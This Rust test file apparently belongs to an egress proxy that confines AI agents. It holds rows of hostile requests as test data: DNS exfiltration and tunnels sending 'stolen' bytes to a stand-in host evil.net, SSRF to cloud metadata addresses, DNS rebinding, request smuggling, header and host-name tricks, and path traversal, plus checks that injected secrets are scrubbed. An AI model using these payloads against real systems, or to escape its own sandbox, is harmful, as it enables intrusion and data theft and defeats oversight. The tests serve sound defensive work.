//! Does each check of the egress stop the attack that it is there for?
//!
//! The rows are those of an escape suite that concern the way out, with their numbers there. Each is made twice with the
//! same bytes: as everything is, and with the checks replaced by "allow" that stand in its way. It is judged by what
//! its victim sees: a host that must not be reached, a name server of the attacker, an agent that must not read a secret.
//! Where several checks stand in the way, each of them alone is enough, and that is tried as well.
//!
//! Elsewhere: 54 (direct sockets of any kind) needs a kernel, and is made in the booted image with its walls down. 65 and
//! 66 as far as the appliance itself would follow a redirect or call a webhook: it does neither.

pub(super) mod naive;

use super::checks::Check::{self, Addresses, Bytes, Handshake, Heads, Rules, Scrubbing};
use super::ended_tests::{SECRET, ends_without};
use super::*;
use crate::hello::tests::hello;
use base64::Engine;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Mutex;
use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream, duplex};

/// Where hosts are that a rule names.
const HONEST: &str = "93.184.216.34";
const EVIL: &str = "203.0.114.1";
/// The appliance's own, to the outside.
const OWN: &str = "198.41.0.4";
/// Whoever waits for an answer holds [`crate::budget::CHUNK_BYTES`] of it.
const BUDGET_BYTES: u64 = 64 * 1024;

const TCP: &str = r#"[{"host": "example.org", "protocol": "tcp", "ports": [443]},
    {"host": "*.example.org", "protocol": "tcp", "ports": [443]}]"#;
const TLS: &str = r#"[{"host": "example.org"}, {"host": "*.example.org"}]"#;
const WEB: &str =
    r#"[{"host": "example.org", "protocol": "http", "methods": ["GET", "POST"], "paths": ["/v1/*"]}]"#;

/// What the attacker wants.
enum Effect {
    /// A connection to this address gets these words.
    Reaches(&'static str, &'static str),
    /// Somebody's name server gets this question.
    Asks(&'static str),
}
use Effect::{Asks, Reaches};

enum Replaced {
    /// These checks, by "allow".
    Checks(&'static [Check]),
    /// The dialler, by one that asks for the name once more.
    Dialler,
}

struct Row {
    number: u32,
    what: &'static str,
    rules: &'static str,
    attack: Vec<u8>,
    effect: Effect,
    replaced: Replaced,
}

/// What came on one connection.
type Heard = Arc<Mutex<Vec<u8>>>;

struct Outside {
    /// What a name resolves to: first, and whenever it is asked for again.
    names: BTreeMap<&'static str, [Vec<IpAddr>; 2]>,
    asked: Mutex<Vec<String>>,
    arrived: Mutex<Vec<(IpAddr, Heard)>>,
    dials_again: bool,
}

impl Resolve for Arc<Outside> {
    async fn resolve(&self, name: &Name) -> io::Result<Vec<IpAddr>> {
        self.asked.lock().unwrap().push(name.to_string());
        let [first, _] = self.names.get(name.as_str()).ok_or(io::ErrorKind::NotFound)?;
        Ok(first.clone())
    }
}

impl Dial for Arc<Outside> {
    type Stream = DuplexStream;

    async fn dial(&self, to: Vetted) -> io::Result<DuplexStream> {
        let (ours, mut theirs) = duplex(64 * 1024);
        let mut address = to.socket().ip();
        if self.dials_again {
            let name = self.asked.lock().unwrap().last().cloned().unwrap();
            address = self.names[name.as_str()][1][0];
        }
        let bytes = Arc::new(Mutex::new(Vec::new()));
        self.arrived.lock().unwrap().push((address, Arc::clone(&bytes)));
        tokio::spawn(async move {
            let mut buffer = [0; 4096];
            while let Ok(count @ 1..) = theirs.read(&mut buffer).await {
                bytes.lock().unwrap().extend(&buffer[..count]);
                // An answer, so that a request comes to its end.
                let _ = theirs.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").await;
            }
        });
        Ok(ours)
    }
}

impl Audit for Arc<Outside> {
    fn record(&self, _: Event) {}
}

/// What the attack comes to with these checks replaced.
async fn has_effect(row: &Row, off: &'static [Check], dials_again: bool) -> bool {
    let parsed = |list: &[&str]| -> Vec<IpAddr> { list.iter().map(|text| text.parse().unwrap()).collect() };
    let once = |list: &[&str]| [parsed(list), parsed(list)];
    let names = BTreeMap::from([
        ("example.org", once(&[HONEST])),
        ("evil.net", once(&[EVIL])),
        ("evilexample.org", once(&[EVIL])),
        ("example.org.evil.net", once(&[EVIL])),
        ("a.b.example.org", once(&[EVIL])),
        ("rebinding.example.org", [parsed(&[HONEST]), parsed(&["127.0.0.1"])]),
        ("two.example.org", once(&["127.0.0.1", HONEST])),
        ("loopback.example.org", once(&["127.0.0.1"])),
        ("nowhere.example.org", once(&["0.0.0.0"])),
        ("lan.example.org", once(&["10.0.0.7"])),
        ("unique.example.org", once(&["fd12::7"])),
        ("link.example.org", once(&["fe80::7"])),
        ("mapped.example.org", once(&["::ffff:10.0.0.7"])),
        ("nat64.example.org", once(&["64:ff9b::a9fe:a9fe"])),
        ("metadata.example.org", once(&["169.254.169.254"])),
        ("metadata6.example.org", once(&["fd00:ec2::254"])),
        ("alibaba.example.org", once(&["100.100.100.200"])),
        ("console.example.org", once(&[OWN])),
    ]);
    let outside =
        Arc::new(Outside { names, asked: Mutex::default(), arrived: Mutex::default(), dials_again });
    let policy = Policy {
        rules: serde_json::from_str(row.rules).unwrap(),
        budgets: Budgets {
            agent: vec![(Whose::Agent, ByteBudget::new(BUDGET_BYTES))],
            by_rule: HashMap::new(),
        },
        own: vec![OWN.parse().unwrap()],
        secrets: HashMap::new(),
    };
    let (_changes, policy) = watch::channel(Arc::new(policy));
    let relay = Relay {
        agent: AgentId(uuid::Uuid::nil()),
        policy,
        limits: Limits::default(),
        resolve: Arc::clone(&outside),
        dial: Arc::clone(&outside),
        audit: Arc::clone(&outside),
        ending: None,
        checks: Checks { off },
    };
    let (mut client, server) = duplex(64 * 1024);
    let agent = async {
        // What was refused may be closed before all of it was said.
        let _ = client.write_all(&row.attack).await;
        let _ = client.shutdown().await;
        let mut said = Vec::new();
        let _ = client.read_to_end(&mut said).await;
    };
    tokio::join!(relay.serve_proxy(server), agent);
    // Time is paused: this ends when every host has read what there is.
    tokio::time::sleep(Duration::from_secs(1)).await;
    match row.effect {
        Reaches(victim, words) => outside.arrived.lock().unwrap().iter().any(|(address, bytes)| {
            let bytes = bytes.lock().unwrap();
            *address == victim.parse::<IpAddr>().unwrap() && String::from_utf8_lossy(&bytes).contains(words)
        }),
        Asks(name) => outside.asked.lock().unwrap().iter().any(|asked| asked == name),
    }
}

/// A tunnel to there, and words inside.
fn connect(target: &str, words: &[u8]) -> Vec<u8> {
    [format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes(), words].concat()
}

fn socks(host: &str, words: &[u8]) -> Vec<u8> {
    let length = u8::try_from(host.len()).unwrap();
    [&[5, 1, 0, 5, 1, 0, 3, length][..], host.as_bytes(), &443u16.to_be_bytes(), words].concat()
}

fn get(target: &str, fields: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\n{fields}\r\n").into_bytes()
}

const STOLEN: &[u8] = b"stolen";

fn rows() -> Vec<Row> {
    let row = |number, what, rules, attack, effect, off| Row {
        number,
        what,
        rules,
        attack,
        effect,
        replaced: Replaced::Checks(off),
    };
    let mut rows = vec![
        row(
            55,
            "data in a name, by CONNECT",
            TCP,
            connect("mzxw6ytb.evil.net:443", b""),
            Asks("mzxw6ytb.evil.net"),
            &[Rules],
        ),
        row(
            55,
            "data in a name, by SOCKS",
            TCP,
            socks("mzxw6ytb.evil.net", b""),
            Asks("mzxw6ytb.evil.net"),
            &[Rules],
        ),
        row(
            55,
            "data in a name, by the proxy",
            WEB,
            get("http://mzxw6ytb.evil.net/v1/", "Host: mzxw6ytb.evil.net\r\n"),
            Asks("mzxw6ytb.evil.net"),
            &[Rules],
        ),
        Row {
            number: 56,
            what: "another address when it is asked for again",
            rules: TCP,
            attack: connect("rebinding.example.org:443", STOLEN),
            effect: Reaches("127.0.0.1", "stolen"),
            replaced: Replaced::Dialler,
        },
        row(
            63,
            "two hosts",
            WEB,
            get("http://example.org/v1/a", "Host: example.org\r\nHost: evil.net\r\n"),
            Reaches(HONEST, "Host: evil.net"),
            &[Heads],
        ),
        row(
            63,
            "another host than the target's",
            WEB,
            get("http://example.org/v1/a", "Host: evil.net\r\n"),
            Reaches(HONEST, "Host: evil.net"),
            &[Heads],
        ),
        row(
            63,
            "two lengths",
            WEB,
            b"POST http://example.org/v1/a HTTP/1.1\r\nHost: example.org\r\nContent-Length: 35\r\n\
              Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n"
                .to_vec(),
            Reaches(
                HONEST,
                "Transfer-Encoding: chunked\r\nContent-Length: 35\r\nConnection: close\r\n\r\n0\r\n\r\nGET /admin",
            ),
            &[Heads],
        ),
        row(
            63,
            "a folded line",
            WEB,
            get("http://example.org/v1/a", "Host: example.org\r\nX: a\r\n Authorization: b\r\n"),
            Reaches(HONEST, "\r\n Authorization: b"),
            &[Heads],
        ),
        row(
            66,
            "the console by the appliance's public name",
            TCP,
            connect("console.example.org:443", STOLEN),
            Reaches(OWN, "stolen"),
            &[Addresses],
        ),
        row(
            61,
            "an open proxy behind an allowed host",
            WEB,
            get("http://example.org/fetch?evil.net", "Host: example.org\r\n"),
            Reaches(HONEST, "GET /fetch?evil.net"),
            &[Rules],
        ),
        row(
            61,
            "a CONNECT inside a CONNECT",
            WEB,
            connect(
                "example.org:80",
                &[connect("evil.net:80", b""), get("/v1/stolen", "Host: evil.net\r\n")].concat(),
            ),
            Reaches(EVIL, "stolen"),
            &[Heads, Rules],
        ),
        row(
            61,
            "another host of a shared front",
            TLS,
            connect("example.org:443", &hello("evil.net")),
            Reaches(HONEST, "evil.net"),
            &[Handshake],
        ),
        row(
            68,
            "more bytes than a day has",
            TCP,
            connect("example.org:443", &[[b'.'; BUDGET_BYTES as usize].as_slice(), STOLEN].concat()),
            Reaches(HONEST, "stolen"),
            &[Bytes],
        ),
    ];
    for (number, host, victim) in [
        (56, "two.example.org", "127.0.0.1"),
        (56, "loopback.example.org", "127.0.0.1"),
        (56, "nowhere.example.org", "127.0.0.1"),
        (56, "lan.example.org", "10.0.0.7"),
        (56, "unique.example.org", "fd12::7"),
        (56, "link.example.org", "fe80::7"),
        (56, "mapped.example.org", "10.0.0.7"),
        (57, "metadata.example.org", "169.254.169.254"),
        (57, "metadata6.example.org", "fd00:ec2::254"),
        (57, "alibaba.example.org", "100.100.100.200"),
        (57, "nat64.example.org", "169.254.169.254"),
    ] {
        let target = format!("{host}:443");
        rows.push(row(number, host, TCP, connect(&target, STOLEN), Reaches(victim, "stolen"), &[Addresses]));
        rows.push(row(number, host, TCP, socks(host, STOLEN), Reaches(victim, "stolen"), &[Addresses]));
    }
    for (number, what, target, victim) in [
        (57, "metadata itself", "169.254.169.254:80", "169.254.169.254"),
        (57, "a private address itself", "10.0.0.7:443", "10.0.0.7"),
        (57, "loopback itself", "[::1]:443", "::1"),
        (66, "the console itself", "127.0.0.1:8443", "127.0.0.1"),
    ] {
        let attack = connect(target, STOLEN);
        rows.push(row(number, what, TCP, attack, Reaches(victim, "stolen"), &[Rules, Addresses]));
    }
    for (what, target) in [
        ("a suffix that is no label", "evilexample.org:443"),
        ("a prefix", "example.org.evil.net:443"),
        ("two labels under one star", "a.b.example.org:443"),
    ] {
        rows.push(row(60, what, TCP, connect(target, STOLEN), Reaches(EVIL, "stolen"), &[Rules]));
    }
    for (what, target) in [
        ("NUL in a name", "evil.net\0.example.org:443"),
        ("%00 in a name", "evil.net%00.example.org:443"),
        ("a user before the name", "example.org@evil.net:443"),
        ("a backslash in a name", "evil.net\\.example.org:443"),
        ("a fragment in a name", "evil.net#.example.org:443"),
    ] {
        rows.push(row(59, what, TCP, connect(target, STOLEN), Reaches(EVIL, "stolen"), &[Heads, Rules]));
    }
    for (what, target, victim) in [
        ("an address as one number", "2130706433:443", "127.0.0.1"),
        ("an address as one number of sixteens", "0x0a000007:443", "10.0.0.7"),
        ("an address inside another one", "[::ffff:169.254.169.254]:443", "169.254.169.254"),
    ] {
        let off: &[Check] = &[Heads, Rules, Addresses];
        rows.push(row(59, what, TCP, connect(target, STOLEN), Reaches(victim, "stolen"), off));
    }
    for (what, path) in [
        ("dot segments", "/v1/../admin"),
        ("escaped dots", "/v1/%2e%2e/admin"),
        ("an escaped slash", "/v1/..%2fadmin"),
        ("an empty segment", "/v1//admin"),
        ("a parameter that some servers cut at", "/v1/..;/admin"),
    ] {
        let attack = get(&format!("http://example.org{path}"), "Host: example.org\r\n");
        rows.push(row(63, what, WEB, attack, Reaches(HONEST, "admin"), &[Rules]));
    }
    // What a redirect names is one more request of the agent's, and is decided as one.
    let attack = get("http://169.254.169.254/latest", "Host: 169.254.169.254\r\n");
    let effect = Reaches("169.254.169.254", "GET /latest");
    rows.push(row(65, "a redirect to the inside", WEB, attack, effect, &[Rules, Addresses]));
    rows
}

#[tokio::test(start_paused = true)]
async fn each_attack_is_stopped_and_succeeds_when_its_check_is_replaced_by_allow() {
    let rows = rows();
    for row in &rows {
        let name =
            format!("{} {} ({})", row.number, row.what, String::from_utf8_lossy(&row.attack).escape_debug());
        assert!(!has_effect(row, &[], false).await, "{name}: it has its effect");
        match row.replaced {
            Replaced::Dialler => assert!(has_effect(row, &[], true).await, "{name}: unproven"),
            Replaced::Checks(off) => {
                assert!(has_effect(row, off, false).await, "{name}: unproven without {off:?}");
                for one in off.chunks(1).filter(|_| off.len() > 1) {
                    assert!(!has_effect(row, one, false).await, "{name}: {one:?} stands alone");
                }
            }
        }
    }
    let made: BTreeSet<u32> = rows.iter().map(|row| row.number).chain([67]).collect();
    assert_eq!(made, BTreeSet::from([55, 56, 57, 59, 60, 61, 63, 65, 66, 67, 68]));
}

/// Row 67: the agent reads what was put into its request.
#[tokio::test]
async fn a_secret_comes_back_when_nobody_looks_and_not_otherwise() {
    let encoded = base64::engine::general_purpose::STANDARD.encode(SECRET);
    let escaped: String = SECRET.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    let body = |text: &str| format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{text}", text.len());
    for (answer, words) in [
        (body(SECRET), SECRET),
        (body(&encoded), encoded.as_str()),
        (body(&escaped), &escaped),
        (format!("HTTP/1.1 401 {SECRET}\r\nContent-Length: 0\r\n\r\n"), SECRET),
        (format!("HTTP/1.1 302 Found\r\nLocation: /?k={SECRET}\r\nContent-Length: 0\r\n\r\n"), SECRET),
        ("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 6\r\n\r\npacked".to_owned(), "packed"),
    ] {
        for (off, expected) in [(&[][..], false), (&[Scrubbing][..], true)] {
            let mut ends = ends_without(off);
            let request = "GET /v1/a HTTP/1.1\r\nHost: api.example.org\r\n\r\n";
            let (asked, seen) = ends.exchange(request, &answer).await;
            assert!(asked.contains(SECRET), "the host has it");
            assert_eq!(seen.contains(words), expected, "without {off:?}: {seen}");
        }
    }
    for (off, expected) in [(&[][..], false), (&[Rules][..], true)] {
        let ends = ends_without(off);
        let mut client = ends.tls("api.example.org", "api.example.org").await.unwrap();
        client.write_all(b"TRACE /v1/a HTTP/1.1\r\nHost: api.example.org\r\n\r\n").await.unwrap();
        let dialled = async {
            while ends.dialled().is_empty() {
                tokio::task::yield_now().await
            }
        };
        let reached =
            timeout(Duration::from_millis(if expected { 10_000 } else { 200 }), dialled).await.is_ok();
        assert_eq!(reached, expected, "TRACE would be answered with the request, its secret included");
    }
}
